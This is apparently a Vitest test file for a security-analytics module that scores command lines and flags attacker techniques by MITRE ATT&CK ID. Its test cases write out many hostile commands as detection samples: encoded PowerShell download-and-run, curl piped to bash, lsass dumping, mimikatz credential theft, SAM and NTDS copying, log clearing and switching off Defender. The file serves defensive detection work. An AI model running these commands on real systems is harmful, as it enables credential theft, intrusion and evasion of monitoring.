import { describe, expect, it } from 'vitest'
import { type CommandLineContext, commandLineFeatures } from '../../../src/analytics/text/command-line-features.ts'
import { commandLineIndicators } from '../../../src/analytics/text/command-line-indicators.ts'
import { commandLineTable } from '../../../src/analytics/text/command-line-table.ts'
import { Table } from '../../../src/lib/table.ts'
import { hasRealLogs, realLog } from '../real-logs.ts'
import { hostileTexts } from './hostile-texts.ts'

function indicators(line: string, context?: CommandLineContext): string[] {
  return commandLineFeatures(line, context).indicators.map(({ name }) => name)
}

describe('numbers of a command line', () => {
  it('are counted over its characters', () => {
    // 4 spaces of 17 characters; `aB1` has the one pair that goes from small to capital, of 1 + 2 + 1 + 1 pairs of letters.
    const features = commandLineFeatures('ab "x" -y aB1 cde')
    expect(features).toMatchObject({ length: 17, tokens: 5, longestToken: 3, carets: 0, backticks: 0, indicators: [] })
    expect(features.specialShare).toBeCloseTo(3 / 17, 12)
    expect(features.digitShare).toBeCloseTo(1 / 17, 12)
    expect(features.upperShare).toBeCloseTo(1 / 17, 12)
    expect(features.caseChanges).toBeCloseTo(1 / 4, 12)
  })

  it('have the entropy of their characters in bits', () => {
    expect(commandLineFeatures('aaaa').entropy).toBeCloseTo(0, 12)
    expect(commandLineFeatures('abab').entropy).toBeCloseTo(1, 12)
    expect(commandLineFeatures('abcd').entropy).toBeCloseTo(2, 12)
  })

  it('are 0 of nothing', () => {
    const { indicators: none, ...numbers } = commandLineFeatures('')
    expect(none).toEqual([])
    expect(Object.values(numbers).every((number) => number === 0)).toBe(true)
  })

  it('count what it names, encoded or not, once each', () => {
    const line = `a http://evil.com/x 10.0.0.1 10.0.0.1 b.org ${Buffer.from('see http://bad.com/yyyy').toString('base64')}`
    expect(commandLineFeatures(line)).toMatchObject({ urls: 2, addresses: 1, domains: 3, encodedParts: 1 })
    expect(commandLineFeatures("p^o^w 'a'+'b'+'c' I`EX").carets).toBe(2)
    expect(commandLineFeatures("'a'+'b'+'c'").concatenations).toBe(2)
    expect(commandLineFeatures('x 0123456789abcdef y').hexShare).toBeCloseTo(16 / 20, 12)
  })
})

describe('what attacks have in common', () => {
  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://a.com/b')", 'utf16le').toString(
    'base64',
  )
  const seen: readonly (readonly [string, string, CommandLineContext?])[] = [
    ['encoded command', `powershell -nop -e ${encoded}`],
    ['encoded command', `pwsh /ec ${encoded}`],
    ['downloads and runs', `powershell -nop -enc ${encoded}`],
    ['Base64 is decoded in it', "[Convert]::FromBase64String('x')"],
    ['compressed code', 'New-Object IO.Compression.GzipStream'],
    ['encoded text', `echo ${Buffer.from('some text that is long enough').toString('base64')}`],
    ['joined or reversed literals', "&('IE'+'X')"],
    ['carets or backticks in words', 'p^ow^er^shell'],
    ['hidden window', 'powershell -w hidden -c x'],
    ['hidden window', 'powershell -WindowStyle 1 x'],
    ['execution policy bypassed', 'powershell -ep bypass x'],
    ['execution policy bypassed', 'powershell -ExecutionPolicy Unrestricted -File x.ps1'],
    ['PowerShell without profile, unattended', 'powershell.exe -NoProfile -NonInteractive x'],
    ['scan interface switched off', "'System.Management.Automation.'+'AmsiUtils'"],
    ['downloads and runs', 'curl -s http://a.com/x.sh | bash'],
    ['downloads', 'Invoke-WebRequest -Uri http://a.com'],
    ['certutil fetches', 'certutil -urlcache -split -f http://a.com/x'],
    ['certutil decodes or encodes', 'certutil -decode a.txt a.exe'],
    ['bitsadmin transfers', 'bitsadmin /transfer j http://a.com/x c:\\x'],
    ['rundll32 runs a script or an odd library', 'rundll32.exe javascript:"..\\mshtml,x"'],
    ['regsvr32 loads a script', 'regsvr32 /s /u /i:http://a.com/x.sct scrobj.dll'],
    ['regsvr32 loads a script', '.\\regsvr32  /u /s c:\\windows\\fonts\\csrss.exe "http://www.a.com/upload" post'],
    ['mshta runs a script', 'mshta http://a.com/x.hta'],
    ['msiexec installs from the network', 'msiexec /q /i http://a.com/x.msi'],
    ['code built or run by tools of .NET', 'C:\\x\\MSBuild.exe a.xml'],
    ['cmstp installs a profile', 'cmstp.exe /s x.inf'],
    ['forfiles or pcalua starts a program', 'pcalua -a calc.exe'],
    ['script engine over WMI', 'wmic os get /format:"http://a.com/x.xsl"'],
    ['process started over WMI', 'wmic /node:x process call create "cmd"'],
    ['command sent to another machine', 'psexec \\\\srv01 cmd'],
    ['output goes to an administrative share', 'cmd /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'],
    ['copies to or runs from an administrative share', 'copy a.exe \\\\srv01\\c$\\a.exe'],
    ['memory of lsass is dumped', 'procdump.exe -accepteula -ma lsass.exe x.dmp'],
    ['names a tool for stealing credentials', 'sekurlsa::logonpasswords'],
    ['copies the database of the domain', 'ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q'],
    ['copies the database of the domain', 'diskshadow.exe  /s shadow.txt'],
    ['copies the local account database', 'reg save HKLM\\SAM c:\\x'],
    ['copies the local account database', 'reg save "HKLM\\SYSTEM" c:\\x'],
    ['copies the local account database', 'reg export HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa c:\\x.reg'],
    ['copies secrets of the system', 'reg.exe save hklm\\security c:\\x'],
    ['reads the password file of Linux', 'cat /etc/shadow'],
    ['searches for passwords', 'findstr /si password *.txt'],
    ['asks for saved credentials', 'cmdkey /list'],
    ['records traffic of the network', 'pktmon  filter add -p 80'],
    ['records traffic of the network', 'netsh trace start capture=yes'],
    ['takes over the token of another', 'MSFRottenPotato.exe'],
    ['takes over the token of another', 'RunasCs.exe bob pw cmd'],
    ['starts a program as somebody else', 'runas  /user:corp\\bob cmd.exe'],
    ['asks who and where it is', 'whoami /groups'],
    ['asks for accounts', 'net user bob /domain'],
    ['asks for accounts', 'setspn  -T corp -Q */*'],
    ['asks for groups', 'net group "Domain Admins" /domain'],
    ['asks for groups', 'whoami /groups'],
    ['asks for trusts between domains', 'nltest /domain_trusts'],
    ['asks for the password policy', 'net1  accounts /domain'],
    ['asks for other machines', 'net  view'],
    ['asks for other machines', 'nltest /dclist:corp'],
    ['asks for shares', 'net share'],
    ['asks for shares', 'net view \\\\srv01'],
    ['asks for addresses and routes', 'ipconfig /all'],
    ['asks for connections and sessions', 'netstat -ano'],
    ['asks for processes', 'tasklist'],
    ['asks for services and tasks', 'schtasks  /query /xml'],
    ['asks for services and tasks', 'sc query type= service'],
    ['asks for the system', 'systeminfo'],
    ['asks for what protects and watches', 'auditpol.exe  /get /category:*'],
    ['asks for what protects and watches', 'netsh  a show allprofiles'],
    ['uploads', 'curl.exe -T C:\\x.7z https://a.com/up'],
    ['packs files under a password', '7z.exe a -pQ3 -v200m C:\\x.7z E:\\shares'],
    ['makes an account', 'net user bob pw /add'],
    ['adds to a group or changes an account', 'net localgroup administrators bob /add'],
    ['adds to a group or changes an account', 'SetSPN  -a MSSQLSvc/x corp\\bob'],
    ['makes a scheduled task', 'schtasks /create /tn x /tr y'],
    ['makes or changes a service', 'sc \\\\srv create x binpath= y'],
    ['makes or changes a service', 'sc  failure W32Time command= "c:\\x.exe"'],
    ['makes or changes a service', 'reg add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\X" /v Security'],
    ['adds a library to netsh', 'netsh add helper c:\\x.dll'],
    ['makes the DNS server load a library', 'dnscmd /config /serverlevelplugindll \\\\srv\\x.dll'],
    ['starts the database for one administrator', 'net.exe start MSSQL$RADAR /m'],
    ['writes a run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a'],
    ['replaces an accessibility tool', 'REG ADD "HKLM\\X\\Image File Execution Options\\sethc.exe" /v Debugger'],
    ['deletes copies or stops recovery', 'vssadmin delete shadows /all'],
    ['stops a service', 'net stop "SQL Server"'],
    ['mines coins', 'x -a cryptonight -o stratum+tcp://p.com:3333'],
    ['clears event logs', 'wevtutil cl Security'],
    ['clears event logs', "wmic nteventlog where filename='security' call cleareventlog"],
    ['clears history', 'history -c'],
    ['deletes the journal of changes to files', 'fsutil usn deletejournal /d c:'],
    ['switches off logs', 'auditpol /set /category:* /success:disable /failure:disable'],
    ['switches off logs', 'wevtutil sl Security /e:false'],
    ['switches off protection', 'powershell Set-MpPreference -DisableRealtimeMonitoring 1'],
    ['switches off protection', 'sc  config WinDefend start= disabled'],
    ['opens or stops the firewall', 'netsh advfirewall set allprofiles state off'],
    ['forwards a port', 'netsh interface portproxy add v4tov4 x'],
    ['forwards a port', 'netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1'],
    ['leads traffic through a tunnel', 'plink.exe bob@srv -R 3389:127.0.0.1:3389 x'],
    ['Linux is installed or run in Windows', 'Dism.exe /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux'],
    [
      'a payload in names of services',
      'powershell -command "Get-Service "seg1" | select -Expand DisplayName |out-file -append p.txt"',
    ],
    ['takes over a session of remote desktop', 'tscon  2 /dest:rdp-tcp#8'],
    ['a console started over DCOM', 'C:\\Windows\\system32\\mmc.exe -Embedding'],
    ['program in a folder for data', 'c:\\windows\\fonts\\conhost.exe zip'],
    ['two extensions', '"C:\\Users\\a\\happy.jpeg.exe"'],
    ['Office started a shell', 'cmd /c x', { parent: 'C:\\Office16\\WINWORD.EXE' }],
    ['web server started a shell', '/c whoami', { process: 'cmd.exe', parent: 'w3wp.exe' }],
    ['database started a shell', '/c whoami', { process: 'C:\\Windows\\System32\\cmd.exe', parent: 'sqlservr.exe' }],
    ['print service started a shell', '"cmd.exe"', { parent: 'C:\\Windows\\System32\\spoolsv.exe' }],
    ['WMI started a shell', 'powershell x', { parent: 'WmiPrvSE.exe' }],
    ['a script host started a shell', 'cmd /c x', { parent: 'mshta.exe' }],
    ['a remote service started a shell', '"cmd.exe"', { parent: 'PSEXESVC.exe' }],
    ['reader or browser started a shell', 'wscript x.js', { parent: 'AcroRd32.exe' }],
  ]

  it.each(seen.map(([name, line, context]) => ({ name, line, context })))('$name: $line', ({ name, line, context }) => {
    expect(indicators(line, context)).toContain(name)
  })

  it('each has a case above, a name of its own and a technique', () => {
    const cased = new Set(seen.map(([name]) => name))
    expect(commandLineIndicators.map(({ name }) => name).filter((name) => !cased.has(name))).toEqual([])
    expect(new Set(commandLineIndicators.map(({ name }) => name)).size).toBe(commandLineIndicators.length)
    for (const { technique } of commandLineIndicators) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/)
  })

  it('a file that is sent is not fetched', () => {
    expect(indicators('curl.exe -T C:\\x.7z https://a.com/up')).toEqual(['uploads'])
    expect(indicators('wget http://a.com/x -t 3 -T 5')).toEqual(['downloads'])
  })

  it.each([
    'C:\\Windows\\system32\\svchost.exe -k netsvcs',
    '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
    'powershell.exe -ExecutionPolicy AllSigned -File C:\\x.ps1',
    'git status -z -uall',
    'net use m: \\\\fs01\\public',
    'grep -e password notes',
    'nc -e x',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'ping 127.0.0.1 -n 20',
    'echo {"DownloadFileActionConfig":null}',
    'C:\\Windows\\System32\\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9BA05972}',
    'msbuildhelper.exe /x',
    'C:\\Windows\\system32\\secedit.exe /export /cfg "C:\\Program Files\\Microsoft Monitoring Agent\\x.inf"',
    'net start spooler',
    'C:\\Windows\\system32\\mmc.exe "C:\\Windows\\system32\\eventvwr.msc" /s',
    'nslookup srv01.contoso.com',
    'sc start W32Time',
    'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WlanSvc" config\\wlan.reg',
    'netsh interface ipv4 show addresses',
  ])('%s has none', (line) => {
    expect(indicators(line)).toEqual([])
  })

  it.each(Object.keys(hostileTexts))('are looked for in a million %s', (name) => {
    expect(commandLineFeatures(hostileTexts[name]!(2 ** 20)).length).toBe(2 ** 20)
  })
})

describe('a table with features', () => {
  const log = Table.fromRows(
    [
      { name: 'CommandLine', type: 'string' },
      { name: 'ParentProcessName', type: 'string' },
      { name: 'Urls', type: 'string' },
    ],
    [
      ['whoami', 'C:\\cmd.exe', 'old'],
      ['', '', 'old'],
      ['powershell -w hidden -ep bypass whoami', 'C:\\WINWORD.EXE', 'old'],
      ['whoami', 'C:\\cmd.exe', 'old'],
    ],
  )

  it('keeps its rows and columns, those of the same name replaced', () => {
    const table = commandLineTable(log).table
    expect(table.rowCount).toBe(4)
    expect(table.columns.filter(({ name }) => name === 'Urls')).toEqual([{ name: 'Urls', type: 'long' }])
    const rows = [...table.objects()]
    expect(rows[0]).toMatchObject({
      CommandLine: 'whoami',
      LineLength: 6,
      LineTokens: 1,
      IndicatorCount: 1,
      Techniques: ['T1033'],
    })
    expect(rows[0]!.Why).toBe('asks who and where it is: first questions of an intruder (T1033)')
    expect(rows[1]).toMatchObject({ LineLength: 0, LineEntropy: 0, IndicatorCount: 0, Indicators: [], Why: '' })
    expect(rows[2]).toMatchObject({ HiddenWindow: 1, PolicyBypass: 1, OddParent: 1, Urls: 0 })
    expect(rows[3]).toEqual(rows[0])
  })

  it('gives distinct lines, most indicators first, and leaves out those with fewer', () => {
    const table = commandLineTable(log, { distinct: true, least: 1 }).table
    expect(table.column('CommandLine')).toEqual(['powershell -w hidden -ep bypass whoami', 'whoami'])
    expect(table.column('Count')).toEqual([1, 2])
    expect(commandLineTable(log, { least: 1 }).table.column('CommandLine')).toEqual([
      'whoami',
      'powershell -w hidden -ep bypass whoami',
      'whoami',
    ])
  })

  it('says where a line was too long to be looked at whole', () => {
    const long = Table.fromRows([{ name: 'CommandLine', type: 'string' }], [['a '.repeat(40_000)]])
    expect(commandLineTable(long).notices).toEqual([
      '1 command lines are longer than 65536 characters: rules looked at their beginning.',
    ])
  })

  it('says which column is missing', () => {
    expect(() => commandLineTable(log.select(['Urls']))).toThrow('There is no column of command lines.')
    expect(() => commandLineTable(log, { parent: 'Father' })).toThrow('The table has no column `Father`')
    expect(commandLineTable(log.pick([])).table.rowCount).toBe(0)
  })

  it.skipIf(!hasRealLogs)('finds the made attack among 10,000 processes of two hosts', () => {
    if (!hasRealLogs) return
    const log = realLog('msticnb/SecurityEvent.jsonl', {
      CommandLine: 'string',
      NewProcessName: 'string',
      ParentProcessName: 'string',
    })
    const table = commandLineTable(log, { distinct: true, least: 1 }).table
    expect(table.rowCount).toBe(19)
    expect(String(table.column('CommandLine')[0])).toContain('powershell  -enc LU5vbmlu')
    // Of the nineteen only the updater's report to its maker is no part of the demonstration.
    expect(table.column('CommandLine').filter((line) => String(line).includes('GoogleUpdate'))).toHaveLength(1)
  })
})

describe('a table of command lines', () => {
  it('does not take a row without a line for one that has it', () => {
    const table = Table.fromRows(
      [{ name: 'CommandLine', type: 'dynamic' }],
      [[null], ['powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AYwBvAG0AKQA=']],
    )
    const { table: made } = commandLineTable(table)
    expect(made.column('LineLength')).toEqual([0, 76])
    expect(made.value(1, 'IndicatorCount')).toBeGreaterThan(0)
  })
})
